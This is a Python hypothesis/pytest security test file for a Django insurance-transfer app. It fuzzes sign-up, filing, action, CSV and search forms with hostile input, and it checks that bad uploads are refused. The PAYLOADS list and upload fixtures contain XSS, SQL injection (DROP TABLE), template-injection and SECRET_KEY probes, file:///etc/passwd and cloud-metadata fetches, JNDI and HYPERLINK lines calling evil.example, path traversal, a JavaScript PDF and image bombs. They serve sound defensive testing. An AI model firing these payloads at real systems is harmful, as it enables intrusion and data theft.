"""Random and hostile values posted to every form (hypothesis): never a server error, never a half-saved
record, and every value shown back escaped. Uploads that are not what they claim are refused with a
clear message and leave nothing behind.

Each example runs in a savepoint rolled back at its end. A server error would surface as an exception
(the test client re-raises it), so "never a 500" needs no assertion of its own; a 5xx answer is asserted
against anyway. "Rejected" means the form came back (200) or the case did not move: then the row counts
of every table a form writes to are the same as before.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django_otp import DEVICE_ID_SESSION_KEY
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from applications.models import (
    CaseEvent,
    ContributionYear,
    EmployerStaff,
    InsuredPerson,
    Material,
    Notification,
    OfficialDocument,
    State,
    TransferApplication,
)
from tests.security.conftest import (
    HR,
    IN_CLERK,
    OTHER_APPLICANT,
    OUT_CLERK,
    PASSWORD,
    TINY_PNG,
    User,
    tally,
)
from tests.security.test_authorization_matrix import ACTIONS, CONTRIBUTION_ROW, consume
from tests.security.test_uploaded_pdfs import ACTIVE, IMAGE_PIXELS
from tests.workflow.helpers import minimal_pdf
from tests.world import login

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    # WeasyPrint: attach or fetch a local file, or reach the network, from the official forms.
    "<link rel=attachment href=file:///etc/passwd>",
    '<img src="file:///etc/passwd">',
    "<style>@import url(http://169.254.169.254/latest/meta-data/)</style>",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{{ request.user.password }}",
    "' OR '1'='1",
    "'; DROP TABLE applications_transferapplication; --",
    '" OR 1=1 --',
    '=HYPERLINK("http://evil.example","x")',
    "\x00",
    "a\x00b",
    "\u202egnp.exe",  # right-to-left override
    "\u200f\u200e\u200b\ufeff",  # right-to-left and left-to-right marks, zero-width space, BOM
    "😀👨‍👩‍👧🇨🇳",
    "𠀀𪚥𰻞",  # characters outside the Basic Multilingual Plane
    "\r\n\t\x0b\x0c\x1b[2J\x7f",
    "%s%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "A" * 5000,
    "１２３４５６",  # full-width digits
    "١٢٣٤٥٦",  # Arabic-Indic digits
    "-1",
    "1e999",
    "NaN",
    "0.001",
    "99999999999999999999",
]
# What must never come back raw: the start of each HTML payload above.
MARKERS = (
    "<script>alert",
    "<img src=x",
    "<svg/onload",
    "<link rel=attachment",
    '<img src="file:',
    "<style>@import",
)

hostile = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(max_size=120),
    st.builds(
        lambda a, p, b: a + p + b, st.text(max_size=20), st.sampled_from(PAYLOADS), st.text(max_size=20)
    ),
)

FUZZ = hypothesis_settings(
    max_examples=30,
    deadline=None,
    database=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)

COUNTED = (
    User,
    InsuredPerson,
    EmployerStaff,
    TransferApplication,
    CaseEvent,
    OfficialDocument,
    Material,
    ContributionYear,
    Notification,
)


def counts():
    return {model.__name__: model.objects.count() for model in COUNTED}


def body_of(response):
    return consume(response).decode("utf-8", "replace")


def assert_escaped(response, client=None):
    """No raw HTML payload and no secret in the answer (and in the page a redirect leads to)."""
    assert response.status_code < 500, response.status_code
    pages = [body_of(response)]
    if client is not None and response.status_code in (301, 302) and not response.url.startswith("http"):
        follow = client.get(response.url)
        assert follow.status_code < 500
        pages.append(body_of(follow))
    for page in pages:
        for marker in MARKERS:
            assert marker not in page, f"unescaped {marker!r}"
        assert settings.SECRET_KEY not in page


def in_savepoint(check):
    with transaction.atomic():
        check()
        transaction.set_rollback(True)


def pick(data, fields):
    """Replace some of the valid fields by hostile values (hypothesis draws which and what)."""
    return st.fixed_dictionaries({}, optional=dict.fromkeys(fields, hostile)).map(lambda bad: {**data, **bad})


NUL = "a\x00b"  # PostgreSQL refuses NUL in text: every form gets it in every field, as explicit examples
SCRIPT = "<script>alert(1)</script>"


def everywhere(base, fields, value):
    return {**base, **dict.fromkeys(fields, value)}


def english(user=None, **kwargs):
    return login(Client(**kwargs), user, language="en")


# --- sign-up ------------------------------------------------------------------------------------------

SIGNUP = {
    "name": "张三",
    "document_type": "resident_id",
    "document_number": "33010619920601201X",
    "sex": "",
    "birth_date": "",
    "hukou_region": "330100",
    "phone": "13800138000",
    "address": "杭州",
    "email": "zhang.san@example.cn",
    "password1": "Kite-river-2026-blue",
    "password2": "Kite-river-2026-blue",
}


@pytest.mark.django_db
@FUZZ
@given(data=pick(SIGNUP, SIGNUP))
@example(data=everywhere(SIGNUP, SIGNUP, NUL))
@example(data=everywhere(SIGNUP, ["name", "address"], SCRIPT))
def test_sign_up(world, data):
    def check():
        before = counts()
        client = english()
        response = client.post(reverse("signup"), data)
        after = counts()
        if response.status_code == 200:
            assert after == before
        else:
            assert response.status_code == 302
            user = User.objects.get(username=data["document_number"].strip())
            assert InsuredPerson.objects.filter(user=user).exists()  # account and person together
        assert_escaped(response, client)

    in_savepoint(check)
    tally("hostile posts: sign-up", 1)


# --- filing -------------------------------------------------------------------------------------------

FILING = {
    "schemes": "pension",
    "transfer_out_province": "360000",
    "transfer_out_region": "360400",
    "transfer_in_province": "330000",
    "transfer_in_region": "330100",
    "old_person_number": "JJ-001",
    "old_medical_kind": "employee",
    "new_medical_kind": "employee",
    "gap_months": "0",
    "contributions_paused": "on",
}
FILING_FIELDS = [*FILING, "self_paying", "retired", "arrears", "in_hospital", "approved_job_transfer"]


def assert_filing(client, url, data):
    before = counts()
    response = client.post(url, data)
    after = counts()
    if response.status_code == 200:
        assert after == before
    else:
        assert response.status_code == 302
        created = after["TransferApplication"] - before["TransferApplication"]
        assert created >= 1 and after["CaseEvent"] - before["CaseEvent"] == created
    assert_escaped(response, client)


@pytest.mark.django_db
@FUZZ
@given(data=pick(FILING, FILING_FIELDS))
@example(data=everywhere(FILING, FILING_FIELDS, NUL))
def test_filing_by_the_insured_person(world, data):
    in_savepoint(
        lambda: assert_filing(english(world.users[OTHER_APPLICANT]), reverse("file_application"), data)
    )
    tally("hostile posts: filing (insured person)", 1)


@pytest.mark.django_db
@FUZZ
@given(data=pick(FILING, FILING_FIELDS))
@example(data=everywhere(FILING, FILING_FIELDS, NUL))
def test_filing_by_hr(world, data):
    url = reverse("employer_file_application", args=[world.employer.pk, world.employee.pk])
    in_savepoint(lambda: assert_filing(english(world.users[HR]), url, data))
    tally("hostile posts: filing (HR)", 1)


# --- every action form --------------------------------------------------------------------------------

ACTION_FIELDS = ("reason", "legal_basis", "personal_account_amount", "pooled_fund_amount",
                 "temporary_account_amount", "remittance_reference", "received_amount", "expected_state")  # fmt: skip


def actor_kind(who):
    return sorted(who)[0]


@pytest.mark.django_db
@FUZZ
@given(
    action=st.sampled_from(sorted(ACTIONS)),
    bad=st.fixed_dictionaries({}, optional=dict.fromkeys(ACTION_FIELDS, hostile)),
)
@example(
    action="return_for_correction", bad={"reason": SCRIPT + "<link rel=attachment href=file:///etc/passwd>"}
)
@example(action="refuse_by_transfer_out", bad={"reason": SCRIPT, "legal_basis": "{{ settings.SECRET_KEY }}"})
@example(action="enter_amounts", bad={"personal_account_amount": "100.001"})
@example(action="match_funds", bad={"received_amount": "NaN"})
def test_every_action_form(world, action, bad):
    """Each action, posted by its party on a case in its first source state, with hostile field values."""
    sources, who, target, valid = ACTIONS[action]
    state = sorted(sources)[0]
    case = world.cases[state]
    data = {**valid, "expected_state": state, **bad}

    def check():
        client = english(world.user(actor_kind(who), case))
        before = counts()
        response = client.post(reverse("case_action", args=[case.reference, action]), data)
        after = counts()
        assert response.status_code == 302
        now = TransferApplication.objects.get(pk=case.pk)
        if now.state == state:  # refused
            assert after == before
        else:
            assert now.state == target
            assert after["CaseEvent"] == before["CaseEvent"] + 1
            for name in (
                "personal_account_amount",
                "pooled_fund_amount",
                "received_amount",
                "transfer_total",
            ):
                value = getattr(now, name)
                assert value is None or (
                    isinstance(value, Decimal) and value == value.quantize(Decimal("0.01"))
                )
        assert_escaped(response, client)

    in_savepoint(check)
    tally("hostile posts: action forms", 1)


for _action in sorted(ACTIONS):
    test_every_action_form = example(action=_action, bad=dict.fromkeys(ACTION_FIELDS, NUL))(
        test_every_action_form
    )


# --- the contribution table ---------------------------------------------------------------------------


@pytest.mark.django_db
@FUZZ
@given(
    bad=st.fixed_dictionaries(
        {},
        optional={
            **{f"rows-0-{name}": hostile for name in CONTRIBUTION_ROW},
            "rows-TOTAL_FORMS": st.sampled_from(["abc", "-1", "0", "2", "1001", "99999999999", "\x00"]),
            "rows-INITIAL_FORMS": st.sampled_from(["x", "-5", "7"]),
        },
    )
)
@example(bad={f"rows-0-{name}": NUL for name in CONTRIBUTION_ROW})
def test_contribution_table(world, bad):
    case = world.cases[State.CONTACT_LETTER_SENT]
    data = {"rows-TOTAL_FORMS": "1", "rows-INITIAL_FORMS": "0", "rows-MAX_NUM_FORMS": "100"}
    data.update({f"rows-0-{name}": value for name, value in CONTRIBUTION_ROW.items()})
    data.update(bad)

    def check():
        client = english(world.users[OUT_CLERK])
        before = counts()
        response = client.post(reverse("contribution_table", args=[case.reference]), data)
        after = counts()
        if response.status_code == 200:
            assert after == before
        else:
            assert response.status_code == 302
            saved = list(ContributionYear.objects.filter(application=case))
            assert saved and all(isinstance(row.monthly_base, Decimal) for row in saved)
        assert_escaped(response, client)

    in_savepoint(check)
    tally("hostile posts: contribution table", 1)


def csv_bytes(header, rows):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8", "surrogatepass")


@pytest.mark.django_db
@FUZZ
@given(
    bad=st.fixed_dictionaries({}, optional=dict.fromkeys(CONTRIBUTION_ROW, hostile)), header_bad=st.booleans()
)
@example(bad=dict.fromkeys(CONTRIBUTION_ROW, NUL), header_bad=False)
@example(bad={"region_code": NUL}, header_bad=False)
@example(bad=dict.fromkeys(CONTRIBUTION_ROW, SCRIPT), header_bad=True)
def test_contribution_table_csv(world, bad, header_bad):
    case = world.cases[State.CONTACT_LETTER_SENT]
    header = list(CONTRIBUTION_ROW)
    if header_bad:
        header[0] = next(iter(bad.values()), SCRIPT)
    row = [bad.get(name, value) for name, value in CONTRIBUTION_ROW.items()]
    upload = SimpleUploadedFile("table.csv", csv_bytes(header, [row]), content_type="text/csv")

    def check():
        client = english(world.users[OUT_CLERK])
        before = counts()
        response = client.post(reverse("contribution_table", args=[case.reference]), {"csv-csv_file": upload})
        if response.status_code == 200:
            assert counts() == before
        assert_escaped(response, client)

    in_savepoint(check)
    tally("hostile posts: contribution table CSV", 1)


# --- the employer's forms -----------------------------------------------------------------------------

EMPLOYEE = {
    "name": "赵六",
    "document_type": "resident_id",
    "document_number": "330106199206012037",
    "sex": "",
    "birth_date": "",
    "hukou_region": "330100",
    "phone": "13800138001",
}


@pytest.mark.django_db
@FUZZ
@given(data=pick(EMPLOYEE, EMPLOYEE))
@example(data=everywhere(EMPLOYEE, EMPLOYEE, NUL))
@example(data=everywhere(EMPLOYEE, ["name"], SCRIPT))
def test_add_employee(world, data):
    def check():
        client = english(world.users[HR])
        before = counts()
        response = client.post(reverse("employer_add_employee", args=[world.employer.pk]), data)
        after = counts()
        if response.status_code == 200:
            assert after == before
        else:
            assert response.status_code == 302
            assert after["InsuredPerson"] - before["InsuredPerson"] in (0, 1)
            assert InsuredPerson.objects.filter(
                employer=world.employer, document_number=data["document_number"].strip()
            ).exists()
        assert_escaped(response, client)

    in_savepoint(check)
    tally("hostile posts: add employee", 1)


@pytest.mark.django_db
@FUZZ
@given(cells=st.lists(hostile, min_size=7, max_size=7), kind=st.sampled_from(["import", "bulk"]))
@example(cells=[NUL] * 7, kind="import")
@example(cells=[NUL] * 7, kind="bulk")
@example(cells=[SCRIPT] * 7, kind="import")
@example(cells=[SCRIPT] * 7, kind="bulk")
def test_employee_import_and_bulk_filing_csv(world, cells, kind):
    if kind == "import":
        header = ["name", "document_number", "document_type", "hukou_region", "phone", "sex", "birth_date"]
        url = reverse("employer_import_employees", args=[world.employer.pk])
    else:
        header = [
            "document_number",
            "scheme",
            "transfer_out_region",
            "transfer_in_region",
            "old_person_number",
            "name",
        ]
        url = reverse("employer_bulk_filing", args=[world.employer.pk])
    rows = [
        cells[: len(header)],
        [world.employee.document_number, "pension", "360400", "330100", "", cells[-1]][: len(header)],
    ]
    upload = SimpleUploadedFile("upload.csv", csv_bytes(header, rows), content_type="text/csv")

    def check():
        client = english(world.users[HR])
        before = counts()
        response = client.post(url, {"csv_file": upload, "confirm": "on"})
        if response.status_code == 200:  # rejected: not one row saved (a rejected batch keeps its report)
            assert counts() == before
        assert_escaped(response, client)

    in_savepoint(check)
    tally("hostile posts: employee import and bulk filing CSV", 1)


# --- searches and filters (GET forms) -----------------------------------------------------------------

SEARCH_PARAMS = ("q", "work", "step", "scheme", "due", "region", "person", "page", "per_page", "state", "field",
                 "side", "transfer_in_province", "transfer_out_region", "transfer_in_region")  # fmt: skip


@pytest.mark.django_db
@FUZZ
@given(
    page=st.sampled_from(
        ["queue", "employer_cases", "employees", "region_picker", "agency_picker", "notifications"]
    ),
    params=st.fixed_dictionaries(
        {},
        optional=dict.fromkeys(SEARCH_PARAMS, hostile),
    ),
)
def test_searches_and_filters(world, page, params):
    urls = {
        "queue": (IN_CLERK, reverse("agency_queue", args=[world.in_agency.pk])),
        "employer_cases": (HR, reverse("employer_cases", args=[world.employer.pk])),
        "employees": (HR, reverse("employer_employees", args=[world.employer.pk])),
        "region_picker": (None, reverse("region_picker")),
        "agency_picker": (None, reverse("agency_picker")),
        "notifications": (OTHER_APPLICANT, reverse("notifications")),
    }
    kind, url = urls[page]

    def check():
        client = english(world.users[kind] if kind else None)
        response = client.get(url, params)
        assert response.status_code in (200, 302), response.status_code
        assert_escaped(response, client)

    in_savepoint(check)
    tally("hostile queries: searches and filters", 1)


for _page in ("queue", "employer_cases", "employees", "region_picker", "agency_picker", "notifications"):
    for _value in (NUL, SCRIPT):
        test_searches_and_filters = example(page=_page, params=dict.fromkeys(SEARCH_PARAMS, _value))(
            test_searches_and_filters
        )


# --- notifications, language, login, password change, second factor ----------------------------------


@pytest.mark.django_db
@FUZZ
@given(
    form=st.sampled_from(["notifications_read", "set_language", "login", "password_change", "otp"]),
    values=st.lists(hostile, min_size=3, max_size=3),
)
def test_account_forms(world, form, values):
    a, b, c = values

    def check():
        before = counts()
        if form == "notifications_read":
            client = english(world.users[OTHER_APPLICANT])
            response = client.post(reverse("notifications_read"), {"all": a, "id": b, c[:50]: c})
        elif form == "set_language":
            client = english(world.users[OTHER_APPLICANT])
            response = client.post(reverse("set_language"), {"language": a, "next": b})
            if response.status_code == 302:
                assert not response.url.startswith(("http:", "https:", "//")), response.url
        elif form == "login":
            client = english()
            response = client.post(reverse("login"), {"username": a, "password": b, "next": c})
            assert "_auth_user_id" not in client.session
        elif form == "password_change":
            user = world.users[OTHER_APPLICANT]
            client = english(user)
            response = client.post(
                reverse("password_change"), {"old_password": a, "new_password1": b, "new_password2": c}
            )
            user.refresh_from_db()
            assert user.check_password(PASSWORD)
        else:
            clerk = world.users[IN_CLERK]
            client = english(clerk)
            session = client.session
            session.pop(DEVICE_ID_SESSION_KEY, None)
            session.save()
            response = client.post(reverse("otp") + "?next=" + "/agency/", {"token": a})
            assert response.status_code == 200  # refused: the form again
            assert client.get("/").url.startswith(reverse("otp"))
        assert counts() == before
        assert_escaped(response, client)

    in_savepoint(check)
    tally("hostile posts: notifications, language, login, password change, second factor", 1)


for _form in ("notifications_read", "set_language", "login", "password_change", "otp"):
    test_account_forms = example(form=_form, values=[NUL] * 3)(test_account_forms)


# --- uploads ------------------------------------------------------------------------------------------


def png_header(width, height):
    import struct
    import zlib

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(ihdr)) + chunk + struct.pack(">I", zlib.crc32(chunk))


def jpeg_header(width, height):
    import struct

    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + sof + b"\xff\xd9" + b"\x00" * 16


UPLOADS = {
    "a text file named .pdf": (
        "scan.pdf", b"This is a letter, not a PDF.\n" * 20,
        "Only PDF, JPEG or PNG files are accepted; this file's content is none of them, whatever its name.",
    ),
    "an HTML page named .png": (
        "scan.png", b"<html><script>alert(1)</script></html>",
        "Only PDF, JPEG or PNG files are accepted; this file's content is none of them, whatever its name.",
    ),
    "a PDF with JavaScript": (
        "scan.pdf", minimal_pdf().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        ACTIVE.format(what="a script (JavaScript)"),
    ),
    "a PDF with an embedded file": (
        "scan.pdf", minimal_pdf().replace(b"/Type /Catalog", b"/Type /Catalog /Names << /EmbeddedFiles << >> >>"),
        ACTIVE.format(what="an attached file"),
    ),
    "a PNG image bomb (100000 × 100000)": (
        "scan.png", png_header(100_000, 100_000) + b"\x00" * 64,
        IMAGE_PIXELS.format(w=100000, h=100000, mp="10000.0"),
    ),
    "a JPEG image bomb (65000 × 65000)": (
        "scan.jpg", jpeg_header(65_000, 65_000),
        IMAGE_PIXELS.format(w=65000, h=65000, mp="4225.0"),
    ),
    "a file over 10 MB": (
        "scan.pdf", minimal_pdf() + b"%" + b"0" * (10 * 1024 * 1024),
        "The file is larger than 10 MB.",
    ),
    "an empty file": ("scan.pdf", b"", "The submitted file is empty."),
}  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("name", list(UPLOADS))
def test_bad_uploads_are_refused_with_a_clear_message(world, name, private_storage_dir):
    filename, content, message = UPLOADS[name]
    case = world.cases[State.DRAFT]
    client = english(case.person.user)
    files_before = sorted(p.name for p in private_storage_dir.rglob("*"))
    before = counts()
    response = client.post(
        reverse("upload_material", args=[case.reference]),
        {"kind": "id_card", "file": SimpleUploadedFile(filename, content, content_type="application/pdf")},
        follow=True,
    )
    assert response.status_code == 200
    shown = [(m.level_tag, str(m)) for m in response.context["messages"]]
    assert ("error", message) in shown, shown
    assert counts() == before
    assert sorted(p.name for p in private_storage_dir.rglob("*")) == files_before
    tally("bad uploads refused", 1)


@pytest.mark.django_db
@pytest.mark.parametrize("filename", ["scan.png", "../../../etc/passwd.png", "<script>.png", "扫描件.png"])
def test_a_good_upload_is_stored_under_a_name_of_ours(world, filename, private_storage_dir):
    case = world.cases[State.DRAFT]
    client = english(case.person.user)
    response = client.post(
        reverse("upload_material", args=[case.reference]),
        {"kind": "id_card", "file": SimpleUploadedFile(filename, TINY_PNG, content_type="text/html")},
        follow=True,
    )
    assert ("success", "The file is attached.") in [
        (m.level_tag, str(m)) for m in response.context["messages"]
    ]
    material = Material.objects.filter(application=case).order_by("-pk").first()
    assert material.content_type == "image/png"  # decided by the content, not by what the browser said
    assert material.file.name.startswith(f"materials/{case.reference}-id_card-")
    assert (private_storage_dir / material.file.name).resolve().is_relative_to(private_storage_dir.resolve())
    assert "<script>.png" not in response.content.decode()
    served = client.get(reverse("view_material", args=[material.pk]))
    assert served["Content-Type"] == "image/png"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert consume(served) == TINY_PNG
